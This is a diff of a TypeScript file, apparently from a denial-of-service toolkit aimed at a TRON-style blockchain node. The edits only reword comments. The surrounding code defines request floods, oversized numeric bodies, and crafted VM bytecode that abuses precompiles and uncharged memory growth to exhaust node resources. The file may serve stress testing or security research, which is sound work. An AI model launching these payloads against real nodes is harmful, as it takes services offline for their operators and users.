@@ -1,4 +1,4 @@
-/** Requests that cost little to send and much to read, to answer or to keep. */
+/** Requests that are cheap to send, and expensive to read, answer or store. */
 
 import { randomBytes } from "node:crypto";
 import { setTimeout as sleep } from "node:timers/promises";
@@ -13,12 +13,12 @@ interface Flood {
 	readonly server: Server;
 	readonly path: string;
 	readonly body: string;
-	/** Requests under way at once. */
+	/** Concurrent requests. */
 	readonly parallel: number;
 	readonly contentType?: string;
 }
 
-/** Asks the same again and again, over several connections. */
+/** Repeats a request over several connections. */
 function requests(name: string, sends: string, { server, path, body, parallel, contentType }: Flood): Attack {
 	return {
 		name,
@@ -54,7 +54,7 @@ const rpc = (method: string, params: string): string =>
 
 const digits = "7".repeat(4_000_000);
 
-/** A transaction that creates a contract, as clients send it. @param name as JSON writes it */
+/** A contract creation as JSON. @param name JSON-escaped */
 function creationNamed(name: string): string {
 	const value = `{"owner_address":"41${"11".repeat(20)}","new_contract":{"name":"${name}"}}`;
 	const url = "type.googleapis.com/protocol.CreateSmartContract";
@@ -141,7 +141,7 @@ const unknownHex = (): string => {
 const blocks = (server: Server, path: string, body: string, name: string, sends: string): Attack =>
 	requests(name, sends, { server, path, body, parallel: 8 });
 
-/** An unauthenticated call of the machine, from the code that a creation would run. */
+/** A constant call that runs creation code. */
 export function constantCall(code: string): string {
 	return JSON.stringify({
 		owner_address: "410000000000000000000000000000000000000001",
@@ -151,7 +151,7 @@ export function constantCall(code: string): string {
 }
 
 /**
- * Creation code that lays out a list of `count` entries which all are one long string, and gives it to a precompile.
+ * Creation code that calls a precompile with a list of `count` entries, all being the same long string.
  * @param precompile 0x09 or 0x0a
  */
 export function overlapping(precompile: number, count: number, bytes: number): string {
@@ -198,13 +198,13 @@ const call = (name: string, sends: string, code: string, parallel = 2): Attack =
 		parallel,
 	});
 
-/** Calls identity with the word at 0, its output to where the stack says; its memory grows without a charge. */
+/** Calls identity with the word at 0, and output at the given offset: memory grows without charge. */
 const identityTo = (outOffset: string): string => `6000${outOffset}6020600060006004${"61ffff"}f150`;
 
 /** for (i = 4 MiB; ; i += 1024) identity(32 bytes) to i */
 const farPages = `624000005b${identityTo("81")}61040001600456`;
 
-/** Memory of 3 MB, this code at its beginning, and a creation of all of it. */
+/** Expands memory to 3 MB, starting with this code, and creates a contract from all of it. */
 const nestedCreations = `${identityTo("622fffe0")}604060006000396230000060006000f000`;
 
 export const servers: readonly Attack[] = [
